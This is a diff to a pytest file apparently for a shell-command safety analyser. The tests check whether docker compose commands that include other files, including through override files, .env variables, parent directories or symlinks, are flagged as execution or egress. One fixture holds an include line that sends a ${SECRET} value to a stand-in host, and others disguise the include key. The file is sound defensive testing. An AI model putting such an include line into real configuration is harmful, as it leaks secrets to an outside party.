@@ -31,6 +31,7 @@ def kinds(command: str, files: Mapping[str, str]) -> set[EffectKind]:
         pytest.param("docker compose ps -a web 2>&1 | grep -i error | tail", FILES, id="in-a-pipeline"),
         pytest.param("docker compose ps && docker compose top web", FILES, id="twice"),
         pytest.param("cd dev && docker compose top", {"dev/compose.yml": PLAIN, "compose.yml": PLAIN}, id="below"),
+        pytest.param("cd dev/web && docker compose ps", {**FILES, "compose.override.yaml": PLAIN}, id="above"),
         pytest.param("docker compose exec -T db ls /var", FILES, id="a-look-inside"),
         pytest.param("docker-compose stop web", FILES, id="by-the-older-name"),
     ],
@@ -47,6 +48,10 @@ def with_line(line: str) -> dict[str, str]:
     ("command", "files"),
     [
         pytest.param(PS, {}, id="none-here"),
+        pytest.param(f"cd dev && {PS}", {}, id="none-above"),
+        pytest.param(f"cd dev && {PS}", with_line("include: [x]\n"), id="included-above"),
+        pytest.param(f"cd dev && {PS}", {**FILES, "compose.override.yml": "include: [x]"}, id="in-the-override-above"),
+        pytest.param(f"cd dev && {PS}", {**FILES, ".env": "COMPOSE_FILE=x.yml\n"}, id="named-in-variables-above"),
         pytest.param(PS, with_line("include: ['https://e.example/${SECRET}.git']\n"), id="another-is-included"),
         pytest.param(PS, with_line('"incl\\u0075de": [x]\n'), id="spelt-otherwise"),
         pytest.param(PS, with_line("? include\n: [x]\n"), id="as-a-long-key"),
@@ -90,3 +95,11 @@ def with_line(line: str) -> dict[str, str]:
 )  # fmt: skip
 def test_what_takes_in_others_counts_as_code(command, files):
     assert kinds(command, files) & {EffectKind.EXECUTE, EffectKind.EGRESS}
+
+
+def test_what_lies_above_a_link_is_not_looked_for() -> None:
+    around = surroundings(FILES)
+    linked = around._replace(realpath=lambda path: path.replace(f"{PROJECT}/dev", f"{PROJECT}/other/x"))
+    command = f"cd dev && {PS}"
+    assert not analyse_shell(command, PROJECT, around).effects
+    assert analyse_shell(command, PROJECT, linked).effects
